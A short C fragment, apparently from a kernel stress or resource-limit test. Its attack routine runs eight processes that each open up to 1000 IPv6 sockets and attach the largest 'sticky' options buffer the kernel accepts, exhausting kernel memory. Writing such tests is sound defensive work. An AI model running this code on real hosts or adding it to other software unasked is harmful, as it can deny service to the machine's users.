/* Sets the longest possible sticky IPv6 option, of an unknown type, on many sockets. */
static void work(void) {
    enum { IPV6_2292_OPTIONS = 6, LONGEST = 60 << 10 };
    static struct cmsghdr options[LONGEST / sizeof(struct cmsghdr)];
    options[0].cmsg_level = 12345;
    int length = LONGEST;
    for (int i = 0; i < 1000 && !is_over(); i++) {
        int s = socket(AF_INET6, SOCK_DGRAM, 0);
        if (s < 0) break;
        for (; length > 0; length /= 2) {
            options[0].cmsg_len = length;
            if (setsockopt(s, IPPROTO_IPV6, IPV6_2292_OPTIONS, options, length) == 0) break;
        }
        if (length == 0) break;
        add(&shared->count, 1);
    }
}
static void attack(void) { in_processes(8, work); }
